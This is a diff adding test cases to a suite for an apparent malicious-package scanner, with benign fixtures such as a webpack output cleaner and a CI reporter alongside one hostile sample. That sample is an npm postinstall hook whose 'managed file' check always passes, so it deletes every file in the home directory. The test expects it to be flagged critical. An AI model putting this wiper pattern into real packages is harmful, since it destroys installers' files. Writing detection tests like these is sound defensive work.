@@ -491,3 +491,92 @@ describe("an ES module's own files, found through import.meta.url", () => {
     ).toEqual([]);
   });
 });
+
+describe('review of the nineteenth session', () => {
+  it('a marker test on text that carries the marker whatever the file says does not exempt a wiper', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'dotsync',
+        version: '1.0.0',
+        scripts: { postinstall: 'node lib/clean.js' },
+      }),
+      'lib/clean.js': [
+        "const fs = require('fs');",
+        "const os = require('os');",
+        "const path = require('path');",
+        "const MARK = 'dotfile-sync:managed';",
+        "const header = (file) => `# ${MARK}\\n` + fs.readFileSync(file, 'utf8').slice(0, 512);",
+        'function ours(file) { try { return header(file).includes(MARK); } catch { return false; } }',
+        'for (const name of fs.readdirSync(os.homedir())) {',
+        '  const file = path.join(os.homedir(), name);',
+        '  if (!ours(file)) continue;',
+        '  fs.unlinkSync(file);',
+        '}',
+      ].join('\n'),
+    });
+    expect(r.risk_level).toBe('critical');
+  });
+
+  it('`sudo tar -xzf <download>` unpacks the download; it does not run it', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'goup', version: '1.0.0', bin: { goup: 'cli.js' } }),
+      'cli.js': [
+        "const fs = require('fs');",
+        "const os = require('os');",
+        "const path = require('path');",
+        "const { execFileSync } = require('child_process');",
+        'async function install(version) {',
+        "  const archive = path.join(os.tmpdir(), '.goup', `go${version}.tar.gz`);",
+        '  const res = await fetch(`https://dl.go-mirror.example/go${version}.linux-amd64.tar.gz`);',
+        '  fs.writeFileSync(archive, Buffer.from(await res.arrayBuffer()));',
+        "  execFileSync('sudo', ['tar', '-C', '/usr/local', '-xzf', archive], { stdio: 'inherit' });",
+        '}',
+        'install(process.argv[2]);',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.drop-and-run')).toBeUndefined();
+  });
+
+  it("a webpack plugin cleaning the build's output folder stays quiet", () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'tidy-webpack-plugin', version: '1.0.0', main: 'index.js' }),
+      'index.js': [
+        "const fs = require('fs');",
+        "const path = require('path');",
+        'class TidyWebpackPlugin {',
+        '  constructor(options = {}) { this.keep = options.keep || []; this.out = ""; }',
+        '  apply(compiler) {',
+        "    this.out = compiler.options.output.path || path.join(process.cwd(), 'dist');",
+        "    compiler.hooks.emit.tap('Tidy', () => this.clean());",
+        '  }',
+        '  clean() {',
+        '    if (!fs.existsSync(this.out)) return;',
+        '    for (const name of fs.readdirSync(this.out))',
+        '      if (!this.keep.includes(name)) fs.rmSync(path.join(this.out, name), { recursive: true, force: true });',
+        '  }',
+        '}',
+        'module.exports = TidyWebpackPlugin;',
+      ].join('\n'),
+    });
+    expect(strong(r)).toEqual([]);
+  });
+
+  it("a CI reporter sending the run's public GitHub variables stays quiet", () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'jest-dashboard-reporter', version: '1.0.0', main: 'index.js' }),
+      'index.js': [
+        "const https = require('https');",
+        'class DashboardReporter {',
+        '  constructor(globalConfig, options = {}) { this.url = new URL(options.url || "https://ci-dash.example/api/runs"); }',
+        '  onRunComplete(_, results) {',
+        '    const body = JSON.stringify({ sha: process.env.GITHUB_SHA, repo: process.env.GITHUB_REPOSITORY, run: process.env.GITHUB_RUN_ID, passed: results.numPassedTests });',
+        "    const req = https.request(this.url, { method: 'POST', headers: { 'content-type': 'application/json' } });",
+        '    req.end(body);',
+        '  }',
+        '}',
+        'module.exports = DashboardReporter;',
+      ].join('\n'),
+    });
+    expect(strong(r)).toEqual([]);
+  });
+});
